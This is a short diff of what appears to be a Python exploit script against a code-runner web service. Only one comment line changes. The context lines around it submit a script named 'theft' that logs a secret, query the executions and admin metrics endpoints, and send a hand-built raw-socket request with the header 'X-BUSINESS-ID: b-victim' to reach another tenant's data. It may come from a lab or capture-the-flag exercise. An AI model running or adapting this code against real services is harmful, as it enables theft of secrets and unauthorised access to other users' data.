@@ -24,7 +24,7 @@ theft = json.dumps({"runtime": "python-3-13", "user_script": "outputs.log(secret
 outputs.log(ask(inputs.api, "POST", "/api/coderunner/run", theft, headers))
 outputs.log(ask(inputs.api, "GET", "/executions", None, headers))
 outputs.log(ask(inputs.admin, "GET", "/metrics"))
-# A socket that is closed at once is nobody's.
+# A socket that is closed at once has no owner.
 host, port = inputs.api.split(":")
 s = socket.create_connection((host, int(port)))
 s.sendall(f"POST /executions HTTP/1.1\r\nHost: {inputs.api}\r\nContent-Type: application/json\r\nX-BUSINESS-ID: b-victim\r\n"
